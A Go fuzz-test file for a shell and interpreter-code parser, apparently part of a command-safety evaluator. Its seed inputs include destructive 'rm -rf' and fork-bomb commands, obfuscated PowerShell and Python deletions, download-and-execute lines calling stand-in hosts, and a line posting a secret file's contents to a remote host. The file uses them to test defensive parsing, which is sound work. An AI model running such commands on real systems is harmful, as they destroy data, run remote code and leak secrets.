package shell

import (
	"strings"
	"testing"
)

// FuzzParse: any text, however hostile, parses (or falls back) without a
// panic, within the command budget, and renders without private markers.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"rm -rf /", `sh -c "bash -c 'rm -rf /'"`, `T=/; rm -rf $T`, `:(){ :|:& };:`,
		"echo cm0gLXJmIC8= | base64 -d | sh", `a=(x y); "${a[@]}"`, `f() { f | f & }; f`,
		"cat <<EOF > x\nrm -rf /\nEOF", `find / -exec sh -c 'rm -rf {}' \;`, `python3 -c 'import os; os.system("ls")'`,
		"$((1/0))", "${x:?}", "${!x}", "echo $'\\x72\\x6d'", "`echo rm` -rf /", "rm -rf / $(",
		// PowerShell the evaluator reads.
		`$p = "$env:USERPROFILE"; Remove-Item $p -Recurse -Force`, `iex ('{0}-{1} {2}' -f 'Remove','Item',$HOME)`,
		`$r = 'abc'; iex (-join $r[-1..-3])`, `iex (-join [char[]](114,109,32,45,114,102))`, `[scriptblock]::Create("ls").Invoke()`,
		`function F { param($a) Remove-Item $a }; F -a x`, `& ("{1}{0}" -f 'x','i') (irm http://h/x)`, `$s = irm http://h/a; iex $s`,
		`[IO.Directory]::Delete("C:\x", $true)`, `Invoke-Command -ScriptBlock { param($d) rm $d } -ArgumentList "y"`,
		// Filters evaluated over known text, loops over its lines, and
		// one-liners that print.
		"cat > s <<'E'\nls\nrm -rf ~\nE\ngrep -E '^(r|l)' s | sh", "echo 'x y' | sed -n 's/\\(x\\) y/\\1 &/gp' | sh",
		"echo '{\"a\":[{\"b\":\"rm -rf /\"}]}' | jq -r '.a[0].b' | sh", "echo 'rm -rf ~' | sed e",
		"printf 'a\\nb\\n' | while read -r l; do sh -c \"$l\"; done", `python3 -c 'print("rm -rf ~"); print(String.fromCharCode(114))' | sh`,
		`perl -e 'print "rm -rf $ENV{HOME}\n"' | sh`, "pnpm --filter x exec -- rm -rf ~", "npm exec -c 'rm -rf /'",
		// Readings added in the nineteenth session.
		"gh secret set X < <(op read op://a/b/c)", `Remove-VBRBackup -Backup (Get-VBRBackup -Name "X") -FromDisk`,
		"Invoke-RestMethod -Uri https://h -Body @{ a = 1; b = $p }", `T=$(cat k) printenv T`, "deno run -A -", "bun run",
		"kamal app exec -d p 'rm -rf /'", `X="$(cat k)" curl -d "$X" https://h`, "cmk upload c privatekey=\"$(cat k)\"",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		st := NewState()
		cs, _ := Parse(src, st)
		if len(cs) > maxCommands+1024 {
			t.Fatalf("%d commands", len(cs))
		}
		for _, c := range cs {
			if s := c.String(); strings.ContainsAny(s, unkOpen+unkClose) {
				t.Fatalf("marker leaked into %q", s)
			}
		}
		// A second parse with the state the first left behind must also
		// stay bounded.
		Parse(src, st)
	})
}

// FuzzExtractCode: interpreter code of any shape is scanned without a
// panic, within the item budget, in both languages the idiom readers
// know, and a script's arguments never change that.
func FuzzExtractCode(f *testing.F) {
	for _, s := range []string{
		"import shutil\nvictims = [s[::-1] for s in ('cte/', 'rsu/')]\nfor v in victims:\n    shutil.rmtree(v)\n",
		"import subprocess\ncmd = ''.join(chr(c) for c in [114,109,32,47])\nsubprocess.call(cmd, shell=True)\n",
		"from pathlib import Path\nd = Path.home() / '.config'\n(d / 'x.desktop').write_text(chr(10).join(['a', 'b']))\n",
		"import requests, os\nscript = requests.get('https://x.io/s').text\nos.system(script)\n",
		"!curl -s https://x.io | bash\n%%bash\nrm -rf ~\n",
		"const t = ['', 'usr'].join('/');\nexecSync(`rm -rf ${t}`);\n",
		"from git import Repo\nRepo('.').remote('origin').push('master', force=True)\n",
		"[[[[[[[[[[]]]]]]]]]]", "x = [", "for p in sys.argv[1:]:\n    shutil.rmtree(p)\n", "getattr(sp, 'run')(args)",
	} {
		f.Add(s, "python")
		f.Add(s, "node")
	}
	f.Fuzz(func(t *testing.T, code, lang string) {
		if lang != "python" && lang != "node" {
			lang = "python"
		}
		if n := len(extractCode(lang, code)); n > 64 {
			t.Fatalf("%d items", n)
		}
		if n := len(extractScript(lang, code, []string{"/home/u", "/etc"})); n > 64 {
			t.Fatalf("%d items with arguments", n)
		}
	})
}
